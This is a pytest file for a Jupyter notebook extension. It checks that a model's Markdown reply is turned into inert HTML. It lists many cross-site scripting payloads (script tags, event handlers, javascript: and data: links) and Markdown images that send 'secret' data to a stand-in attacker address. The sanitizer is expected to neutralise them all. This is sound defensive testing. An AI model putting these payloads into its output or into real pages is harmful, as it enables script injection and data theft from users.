"""A model's reply as a notebook shows it: Markdown made inert HTML (issue 34).

The browser test (tests/test_browser_reply.py) shows the classic payloads staying inert in
JupyterLab; here many more HTML injection shapes go through `inert_html`, and the result is
read back with an HTML parser: only the allowed tags, no event attribute, no element that loads
anything (img, iframe, script, style, object, svg, video, link, meta, base, form), and links only
to http, https or mailto. tests/test_ask_notebook.py checks that the `%%ask` cell of a real
kernel keeps only this HTML and the text, no Markdown a front end would render with HTML live.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from hipo_jupyter.ipython.display import INERT_TAGS, LINK_SCHEMES, inert_html, reply_bundle

ATTACKER = "http://127.0.0.1:9/"
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"![c]({ATTACKER}?d=secret)",
    f'![c]({ATTACKER}?d=secret "title")',
    f"![c][ref]\n\n[ref]: {ATTACKER}?d=ref",
    '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [z](JaVaScRiPt:alert(1))',
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[v](vbscript:msgbox(1)) <https://ok.example/> <javascript:alert(1)>",
    f'<video src="{ATTACKER}v.mp4" autoplay></video><audio src="{ATTACKER}a.mp3" autoplay>',
    f'<object data="{ATTACKER}o"></object><embed src="{ATTACKER}e">',
    f'<link rel=stylesheet href="{ATTACKER}s.css"><style>@import "{ATTACKER}i.css"</style>',
    f'<div style="background:url({ATTACKER}bg)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}"><base href="{ATTACKER}">',
    f'<form action="{ATTACKER}"><input autofocus onfocus=alert(1)></form>',
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "`<img src=x onerror=alert(1)>` inline\n\n```\n<script>alert(1)</script>\n```",
    "<table><tr><td background=javascript:alert(1)>cell</td></tr></table>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
]
LOADING_TAGS = {"img", "iframe", "script", "style", "object", "embed", "svg", "video",
                "audio", "source", "link", "meta", "base", "form", "input", "math"}  # fmt: skip


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(markup)
    parser.close()
    return parser.tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_as_live_html(payload: str) -> None:
    markup = inert_html(f"Answer first.\n\n{payload}\n\n**bold** and a [link](https://example.com)")
    for tag, attrs in elements(markup):
        assert tag in INERT_TAGS and tag not in LOADING_TAGS, (tag, markup)
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert set(attrs) <= {"href", "rel", "title", "align", "start"}, (tag, attrs)
        href = attrs.get("href")
        if href is not None:
            scheme = href.split(":", 1)[0].lower() if ":" in href.split("/")[0] else ""
            assert scheme in LINK_SCHEMES or href.startswith("#"), href
            assert attrs.get("rel") == "noopener noreferrer nofollow"
    assert "<strong>bold</strong>" in markup  # still readable Markdown


def test_raw_html_shows_as_text_and_an_image_as_a_link() -> None:
    markup = inert_html(f"<script>alert(1)</script>\n\n![chart]({ATTACKER}?d=x)")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup
    assert [tag for tag, _ in elements(markup)] == ["p", "p", "a"]
    assert f'href="{ATTACKER}?d=x"' in markup and "[image: chart]" in markup


def test_code_keeps_its_angle_brackets_readable() -> None:
    markup = inert_html("```python\nif a < b:\n    print('<b>')\n```")
    assert "if a &lt; b:" in markup and "print('&lt;b&gt;')" in markup


def test_the_bundle_keeps_the_text_as_it_came() -> None:
    bundle = reply_bundle("<b>hi</b>")
    assert bundle["text/plain"] == "<b>hi</b>" and "text/markdown" not in bundle
    assert "&lt;b&gt;hi&lt;/b&gt;" in bundle["text/html"]
